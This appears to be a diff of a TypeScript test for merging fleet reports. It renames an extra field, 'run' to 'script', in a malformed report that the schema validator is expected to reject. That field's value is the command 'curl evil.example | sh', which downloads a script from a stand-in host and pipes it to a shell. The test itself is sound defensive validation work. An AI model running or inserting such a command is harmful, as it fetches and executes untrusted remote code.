@@ -157,7 +157,7 @@ describe('reports of a fleet', () => {
     const [first] = await checkAll()
     const good = first?.reportFile ?? ''
     const odd = JSON.stringify({ ...first?.report, pairs: [{ ...first?.report.pairs[0], status: 'sleeping' }] })
-    const more = JSON.stringify({ ...first?.report, run: 'curl evil.example | sh' })
+    const more = JSON.stringify({ ...first?.report, script: 'curl evil.example | sh' })
     const reports = downloaded([good, odd, more, '{"schemaVersion":', 'null', good])
     const end = await merge(scenario, { reports, 'drift-issue': 'true' })
     expect(end).toMatchObject({ exitCode: 1, stderr: '' })
@@ -165,7 +165,7 @@ describe('reports of a fleet', () => {
     expect(end.log).toContain('report-file')
     expect(headlineOf(end)).toMatch(/^\? 4 of 5 .*; aks-prod-1 .*contosoacr$/)
     expect(end.log).toContain('/pairs/0/status: Instance does not match any of')
-    expect(end.log).toMatch(/^.*\/run is /m)
+    expect(end.log).toMatch(/^.*\/script is /m)
     const merged = JSON.parse(end.reportFile) as StepEnd['report']
     expect(merged.pairs).toHaveLength(1)
     expect(merged.unknown).toHaveLength(4)
